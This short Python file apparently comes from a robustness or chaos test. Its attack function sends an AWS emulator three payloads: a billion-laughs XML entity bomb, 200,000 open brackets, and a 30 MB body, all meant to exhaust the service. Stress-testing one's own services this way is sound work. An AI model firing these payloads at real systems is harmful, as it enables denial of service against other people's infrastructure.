"""Sends the emulator more than it can keep, and XML that grows."""

import os
import urllib.request

BILLION = (
    b"""<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">"""
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]><Delete>&j;</Delete>"
)


def attack(world):
    base = os.environ["AWS_ENDPOINT_URL"]
    for way, data in (
        ("/b?delete", BILLION),
        ("/", b"[" * 200_000),
        ("/mi-data-lake/x", bytes(30 << 20)),
    ):
        try:
            method = "PUT" if way.endswith("x") else "POST"
            asked = urllib.request.Request(base + way, data=data, method=method)
            urllib.request.urlopen(asked, timeout=1)
        except Exception as error:
            print(way, error)
